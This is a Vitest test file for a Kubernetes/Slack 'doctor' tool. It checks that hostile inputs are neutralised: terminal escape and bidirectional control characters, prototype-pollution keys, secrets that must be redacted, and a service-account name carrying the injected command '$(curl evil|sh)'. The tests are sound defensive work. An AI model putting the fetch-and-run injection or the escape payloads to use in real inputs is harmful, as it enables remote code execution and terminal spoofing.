import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createClusterProbe } from '../../src/adapters/kubernetes/index.ts';
import { createLog } from '../../src/adapters/log/index.ts';
import { doctor } from '../../src/compose-doctor.ts';
import { areaOf, printCheck, printJson } from '../../src/doctor/check.ts';
import { checkBot } from '../../src/doctor/rights-checks.ts';
import { FakeClock } from '../support/fake-clock.ts';
import { Bed, policyOf } from './bed.ts';

// A line break, a terminal's escape in both forms, and text that runs backwards.
const EVIL = 'x\n\u001b[2K\u009b2Jok    slack  bot token: fine\u202e';
const CONTROL = /[\p{Cc}\p{Cf}]/u;

describe('texts from outside', () => {
  it.each(['what', 'result', 'fix'] as const)('in %s make no line of their own and control no terminal', (field) => {
    const area = areaOf('slack');
    const check = { ...area.fail('channel', 'wrong', 'fix it'), [field]: field === 'fix' ? [EVIL] : EVIL };
    const lines = printCheck(check);
    expect(lines.filter((line) => CONTROL.test(line))).toEqual([]);
    const json = printJson({ checks: [check], exitCode: 1 });
    expect(json).not.toMatch(CONTROL);
    expect(JSON.parse(json).checks[0]).toMatchObject({ state: 'fail', area: 'slack' });
    expect(json).not.toContain('\\u001b');
  });

  it('an account with a shell command in its name is in no command to copy', async () => {
    const probe = { may: () => Promise.resolve(false) } as never;
    const parts = { policy: { identity: { mode: 'serviceAccount' } }, cluster: areaOf('cluster main'), rbac: 'rbac' };
    const account = 'system:serviceaccount:kdebug:$(curl evil|sh)';
    const [check] = await checkBot({ ...parts, account } as never, 'shop', probe);
    expect(check?.fix).toEqual(['rbac | kubectl apply -f -']);
  });
});

describe('on a hostile Slack', () => {
  let bed: Bed;
  beforeEach(async () => {
    bed = await Bed.open();
  });
  afterEach(() => bed.close());

  it.each(['constructor', '__proto__', 'toString'])(
    'an app token refused with %s is refused like any other',
    async (kind) => {
      bed.slack.faults.queue({ method: 'apps.connections.open', kind });
      const said = await bed.ask(policyOf());
      expect(said.check('slack', 'app token')).toMatchObject({ state: 'fail', result: `Slack refuses it (${kind})` });
    },
  );

  it('hides a secret that has quotes in lines and in JSON', async () => {
    const secret = 'quote"back\\slash-secret';
    for (const words of [[], ['--json']]) {
      const lines: string[] = [];
      const call = { words, tool: (name: string) => name, out: (line: string) => void lines.push(line) };
      const variables = {
        SLACK_BOT_TOKEN: bed.slack.botToken,
        SLACK_API_URL: bed.slack.apiUrl,
        SLACK_SIGNING_SECRET: secret,
        KDEBUG_POLICY: `/nowhere/${secret}`,
        PORT: '0',
        OPS_PORT: '1',
      };
      await doctor({ ...call, variables });
      expect(lines.join('\n')).toContain('[redacted]');
      expect(lines.join('\n')).not.toContain('slash-secret');
    }
  });
});

it('a broken kubeconfig is not quoted in the log: a token may stand beside the mistake', () => {
  const folder = mkdtempSync(join(tmpdir(), 'kdebug-hostile-'));
  const kubeconfigPath = join(folder, 'kubeconfig');
  writeFileSync(kubeconfigPath, 'users:\n- name: bot\n  user:\n    token: sesame-of-the-cluster\n   oops: [\n');
  const lines: string[] = [];
  const log = createLog({ level: 'info', destination: { write: (line: string) => void lines.push(line) } });
  try {
    const cluster = { context: 'bot', inCluster: false, default: true };
    createClusterProbe({ source: { cluster, kubeconfigPath }, version: '0', clock: new FakeClock() });
  } catch (error) {
    log.error('kdebug could not start', { error });
  }
  expect(lines.join('')).toContain('it cannot be read: it is no YAML');
  expect(lines.join('')).not.toContain('sesame');
  rmSync(folder, { recursive: true });
});
